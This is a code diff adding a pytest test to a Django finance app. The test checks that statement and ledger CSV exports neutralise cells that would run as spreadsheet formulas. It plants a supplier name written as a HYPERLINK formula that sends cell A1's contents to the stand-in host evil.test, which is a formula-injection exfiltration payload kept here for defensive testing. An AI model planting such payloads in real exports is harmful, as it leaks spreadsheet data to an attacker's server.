@@ -14,7 +14,10 @@ from apps.core.money import Money
 from apps.orders.models import WorkItem
 from apps.orders.services.transitions import order_transition
 from apps.orders.status import OrderStatus
+from apps.payouts.ledger.posting import Line, journal_entry_post, network_account
 from apps.payouts.models import (
+    AccountKind,
+    EntryKind,
     OrderMoney,
     Posting,
     ProfitShareSplit,
@@ -26,6 +29,7 @@ from apps.payouts.models import (
 from apps.payouts.payments.charges import charge_record
 from apps.payouts.reconciliation.runs import reconciliation_run
 from apps.payouts.transfers.participant_transfers import transfer_release_for_work_item, transfer_send
+from apps.suppliers.models import AssetOwner
 from tests.conftest import sign_in
 from tests.payouts.money_builders import finish_work_item, make_order, make_participants, pay, platform_post
 from tests.suppliers.factories import make_member
@@ -204,3 +208,34 @@ def test_another_networks_orders_runs_and_transfers_are_404(finance_client, clie
     assert client_b.get(f"/backoffice/finance/reconciliation/{run.pk}/").status_code == 404
     assert client_b.post(f"/backoffice/finance/transfers/{failing.pk}/retry/").status_code == 404
     assert order.reference.encode() not in client_b.get("/backoffice/finance/statements/").content
+
+
+def test_exports_escape_cells_that_would_run_as_spreadsheet_formulas(finance_client):
+    """Issue 13 item 13: a supplier named like a formula, and a memo starting with @, land in finance's exports
+    as text (prefixed with a quote), while negative amounts stay numbers."""
+    order, _ = _settled_with_failing_transfer()
+    formula = '=HYPERLINK("http://evil.test/?x="&A1, "Invoice")'
+    owner_id = WorkItem.objects.filter(order=order).order_by("pk").first().asset_owner_id
+    AssetOwner.objects.filter(pk=owner_id).update(name=formula)
+    journal_entry_post(
+        kind=EntryKind.SETTLEMENT,
+        lines=[
+            Line(network_account(AccountKind.PLATFORM_REVENUE, "EUR"), 125),
+            Line(network_account(AccountKind.STRIPE_FEES, "EUR"), -125),
+        ],
+        key="test:formula-memo",
+        memo="@SUM(A1:A9)",
+    )
+
+    statements = finance_client.get("/backoffice/finance/export/statements.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(statements.streaming_content).decode())))
+    participants = [row[2] for row in rows[1:]]
+    assert "'" + formula in participants and formula not in participants
+
+    ledger = finance_client.get("/backoffice/finance/export/ledger.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(ledger.streaming_content).decode())))
+    memos = {row[4] for row in rows[1:]}
+    assert "'@SUM(A1:A9)" in memos and "@SUM(A1:A9)" not in memos
+    negative = [row for row in rows[1:] if row[10] == "-125"]
+    assert negative and negative[0][11] == "-1.25", "negative amounts are written as plain numbers"
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
